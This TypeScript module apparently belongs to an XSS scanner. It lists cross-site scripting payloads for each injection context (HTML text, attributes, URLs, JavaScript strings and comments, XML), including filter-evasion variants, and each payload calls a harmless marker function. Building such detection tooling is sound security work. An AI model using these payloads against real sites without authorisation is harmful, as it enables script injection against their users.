/** Where a value stands in a document, by what is needed to get out of there. */
export type XssContext =
  | 'text'
  | 'double'
  | 'single'
  | 'unquoted'
  | 'name'
  | 'address'
  | 'js.double'
  | 'js.single'
  | 'js.template'
  | 'js.code'
  | 'js.line'
  | 'js.block'
  | 'js.regexp'
  | 'xml'

export type XssPayloads = Readonly<{
  /** The part of the first payload that must come back unchanged, or the others cannot work. */
  opener: string | null
  direct: readonly string[]
  /** Tried instead where the opener was encoded or removed. */
  disguised: readonly string[]
}>

const ELEMENT = '<{m} onfocus={m}() tabindex=0 autofocus>'

/**
 * `{m}` is a new word for every request: it is called as a function where script would run, which is
 * what proves the payload. `{close}` ends the elements and comments around the place.
 */
export const XSS_PAYLOADS: Readonly<Record<XssContext, XssPayloads>> = {
  text: {
    opener: '{m}{close}<{m}',
    direct: [
      `{m}{close}${ELEMENT}`,
      '{m}{close}<script>{m}()</script>',
      // Lists of allowed elements, missing spaces, removed handlers, words removed once.
      '{m}{close}<img src={m} onerror={m}()>',
      '{m}{close}<svg/onload={m}()>',
      '{m}{close}<a href=javascript:{m}()>{m}</a>',
      '{m}{close}<scr<script>ipt>{m}()</scr</script>ipt>',
      '{m}{close}<iframe srcdoc="&lt;script&gt;{m}()&lt;/script&gt;"></iframe>',
    ],
    disguised: [
      // Filters that look for a closed tag; the page's next tag closes it.
      '{m}{close}<{m} onfocus={m}() tabindex=0 {m}=',
      // Values decoded once more, and characters folded to ASCII.
      '{m}%3C{m} onfocus={m}() tabindex=0%3E\uFF1C{m} onfocus={m}() tabindex=0\uFF1E',
    ],
  },
  double: {
    opener: '{m}" {m}=',
    direct: [
      `{m}" {m}="">{close}${ELEMENT}`,
      '{m}" onfocus={m}() tabindex=0 autofocus {m}="',
      '{m}">{close}<script>{m}()</script>',
    ],
    disguised: ['{m}%22 onfocus={m}() tabindex=0 {m}=%22'],
  },
  single: {
    opener: "{m}' {m}=",
    direct: [
      `{m}' {m}=''>{close}${ELEMENT}`,
      "{m}' onfocus={m}() tabindex=0 autofocus {m}='",
      "{m}'>{close}<script>{m}()</script>",
    ],
    disguised: ['{m}%27 onfocus={m}() tabindex=0 {m}=%27'],
  },
  unquoted: {
    opener: null,
    direct: [
      '{m} onfocus={m}() tabindex=0 autofocus ',
      `{m}>{close}${ELEMENT}`,
      '{m}\fonfocus={m}()\ftabindex=0\f',
    ],
    disguised: [],
  },
  name: {
    opener: null,
    direct: ['{m} onfocus={m}() tabindex=0 autofocus ', `{m}>{close}${ELEMENT}`],
    disguised: [],
  },
  address: {
    opener: null,
    direct: ['javascript:{m}()', 'JavaScript:{m}()//https://', '\u0001java\nscript:{m}()'],
    disguised: [],
  },
  'js.double': {
    opener: null,
    direct: ['{m}"-{m}()-"', '{m}\\"-{m}()//', '{m}\\");{m}()//'],
    disguised: [],
  },
  'js.single': {
    opener: null,
    direct: ["{m}'-{m}()-'", "{m}\\'-{m}()//", "{m}\\');{m}()//"],
    disguised: [],
  },
  'js.template': { opener: null, direct: ['{m}${{m}()}', '{m}`-{m}()-`'], disguised: [] },
  'js.code': { opener: null, direct: ['{m}()'], disguised: [] },
  'js.line': { opener: null, direct: ['{m}\n{m}()//', '{m}\u2028{m}()//'], disguised: [] },
  'js.block': { opener: null, direct: ['{m}*/;{m}();/*'], disguised: [] },
  'js.regexp': { opener: null, direct: ['{m}/-{m}()-/{m}'], disguised: [] },
  xml: {
    opener: null,
    direct: ['{m}{close}<{m} xmlns="http://www.w3.org/1999/xhtml" onfocus="{m}()"/>'],
    disguised: [],
  },
}

/** Elements whose content is no markup to a browser that runs script, or is not shown at all. */
export const RAW_ELEMENTS: ReadonlySet<string> = new Set([
  'title',
  'textarea',
  'style',
  'script',
  'noscript',
  'template',
  'iframe',
  'xmp',
  'noembed',
  'noframes',
  'select',
])
